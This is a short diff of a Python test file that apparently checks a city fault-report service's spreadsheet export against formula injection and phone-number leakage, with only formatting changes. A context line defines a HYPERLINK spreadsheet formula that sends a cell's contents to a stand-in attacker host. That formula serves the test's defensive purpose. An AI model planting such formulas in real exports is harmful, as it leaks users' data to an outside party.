@@ -21,13 +21,12 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看详情")'
 @pytest.fixture
 def hostile(demo_city):
     helpers.report(at=AT, title=FORMULA)
-    helpers.report(at=AT, title="路灯不亮 请回电138-1234-5678 或 139 8765 4321",
-                   description="电话 +86 137-0000-1111")
+    helpers.report(at=AT, title="路灯不亮 请回电138-1234-5678 或 139 8765 4321", description="电话 +86 137-0000-1111")
     services.catch_up()
 
 
 def ledger(book) -> list:
-    return [row for row in book["案件台账"].iter_rows(min_row=2)]
+    return list(book["案件台账"].iter_rows(min_row=2))
 
 
 def check(book):
